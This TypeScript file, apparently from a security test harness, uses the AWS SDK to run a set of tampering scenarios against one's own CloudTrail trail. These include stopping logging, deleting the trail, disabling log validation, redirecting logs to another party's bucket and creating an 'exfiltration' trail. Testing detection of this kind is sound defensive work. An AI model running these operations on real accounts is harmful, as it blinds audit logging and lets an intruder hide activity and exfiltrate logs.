import {
  AddTagsCommand,
  CreateTrailCommand,
  DeleteTrailCommand,
  DeregisterOrganizationDelegatedAdminCommand,
  PutEventConfigurationCommand,
  PutInsightSelectorsCommand,
  RemoveTagsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
  type UpdateTrailCommandInput,
} from '@aws-sdk/client-cloudtrail';
import type { OwnAttack, OwnAttacks } from './attack';

const update =
  (settings: Omit<UpdateTrailCommandInput, 'Name'>): OwnAttack =>
  ({ cloudTrail }, { name }) =>
    cloudTrail.send(new UpdateTrailCommand({ Name: name, ...settings }));

export const TRAIL_ATTACKS: OwnAttacks = {
  'stop-logging': ({ cloudTrail }, { name }) => cloudTrail.send(new StopLoggingCommand({ Name: name })),
  'trail-deleted': ({ cloudTrail }, { name }) => cloudTrail.send(new DeleteTrailCommand({ Name: name })),
  'multi-region-disabled': update({ IsMultiRegionTrail: false }),
  'global-service-events-disabled': update({ IsMultiRegionTrail: false, IncludeGlobalServiceEvents: false }),
  'bucket-changed': update({ S3BucketName: 'somebody-elses-bucket', S3KeyPrefix: '' }),
  'encryption-key-changed': update({ KmsKeyId: '' }),
  'log-file-validation-disabled': update({ EnableLogFileValidation: false }),
  'cloudwatch-logs-changed': update({ CloudWatchLogsLogGroupArn: '', CloudWatchLogsRoleArn: '' }),
  'notification-topic-changed': update({ SnsTopicName: '' }),
  'organization-trail-disabled': update({ IsOrganizationTrail: false }),
  'insights-disabled': ({ cloudTrail }, { name }) =>
    cloudTrail.send(new PutInsightSelectorsCommand({ TrailName: name, InsightSelectors: [] })),
  'event-aggregation-changed': ({ cloudTrail }, { name }) =>
    cloudTrail.send(new PutEventConfigurationCommand({ TrailName: name, AggregationConfigurations: [] })),
  'tags-changed': ({ cloudTrail }, { trailArn }) =>
    cloudTrail.send(new AddTagsCommand({ ResourceId: trailArn, TagsList: [{ Key: 'protected', Value: 'no' }] })),
  'tags-removed': ({ cloudTrail }, { trailArn }) =>
    cloudTrail.send(new RemoveTagsCommand({ ResourceId: trailArn, TagsList: [{ Key: 'protected' }] })),
  'trail-created': ({ cloudTrail }) =>
    cloudTrail.send(new CreateTrailCommand({ Name: 'exfiltration', S3BucketName: 'somebody-elses-bucket' })),
  'cloudtrail-administrator-deregistered': ({ cloudTrail }, { account }) =>
    cloudTrail.send(new DeregisterOrganizationDelegatedAdminCommand({ DelegatedAdminAccountId: account })),
};
